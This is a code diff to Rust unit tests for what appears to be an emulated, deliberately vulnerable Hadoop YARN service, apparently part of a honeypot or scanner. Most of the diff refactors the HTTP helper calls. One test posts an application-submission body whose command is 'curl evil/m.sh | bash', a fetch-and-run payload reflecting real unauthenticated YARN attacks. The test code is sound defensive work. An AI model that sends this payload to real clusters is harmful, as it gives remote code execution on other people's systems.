@@ -124,8 +124,9 @@ fn extract_command(body: &str) -> Option<&str> {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::traits::{get, post, WebApp};
+    use crate::traits::{Driver, WebApp};
     use crate::version::release_history;
+    const DRIVER: Driver = Driver::new();
 
     fn default_latest() -> Hadoop {
         let v = *release_history(AppId::Hadoop).last().unwrap();
@@ -136,7 +137,8 @@ mod tests {
     fn insecure_by_default_with_drwho() {
         let mut app = default_latest();
         assert!(app.is_vulnerable());
-        let body = get(&mut app, "/cluster/cluster")
+        let body = DRIVER
+            .get(&mut app, "/cluster/cluster")
             .response
             .body_text()
             .to_lowercase();
@@ -148,12 +150,14 @@ mod tests {
     #[test]
     fn new_application_returns_id() {
         let mut app = default_latest();
-        let body = get(&mut app, "/ws/v1/cluster/apps/new-application")
+        let body = DRIVER
+            .get(&mut app, "/ws/v1/cluster/apps/new-application")
             .response
             .body_text();
         assert!(body.contains("application-id"));
         // Ids increment per request.
-        let body2 = get(&mut app, "/ws/v1/cluster/apps/new-application")
+        let body2 = DRIVER
+            .get(&mut app, "/ws/v1/cluster/apps/new-application")
             .response
             .body_text();
         assert_ne!(body, body2);
@@ -162,7 +166,7 @@ mod tests {
     #[test]
     fn app_submission_is_code_execution() {
         let mut app = default_latest();
-        let out = post(
+        let out = DRIVER.post(
             &mut app,
             "/ws/v1/cluster/apps",
             r#"{"application-id":"application_1","am-container-spec":{"commands":{"command":"curl evil/m.sh | bash"}}}"#,
@@ -179,16 +183,19 @@ mod tests {
         let v = *release_history(AppId::Hadoop).last().unwrap();
         let mut app = Hadoop::new(v, AppConfig::secure_for(AppId::Hadoop, &v));
         assert!(!app.is_vulnerable());
-        let out = get(&mut app, "/cluster/cluster");
+        let out = DRIVER.get(&mut app, "/cluster/cluster");
         assert_eq!(out.response.status.as_u16(), 401);
-        let out = post(&mut app, "/ws/v1/cluster/apps", "{}");
+        let out = DRIVER.post(&mut app, "/ws/v1/cluster/apps", "{}");
         assert!(out.events.is_empty());
     }
 
     #[test]
     fn yarn_css_marker_for_prefilter() {
         let mut app = default_latest();
-        let body = get(&mut app, "/cluster/cluster").response.body_text();
+        let body = DRIVER
+            .get(&mut app, "/cluster/cluster")
+            .response
+            .body_text();
         assert!(body.contains("/static/yarn.css"));
     }
 }
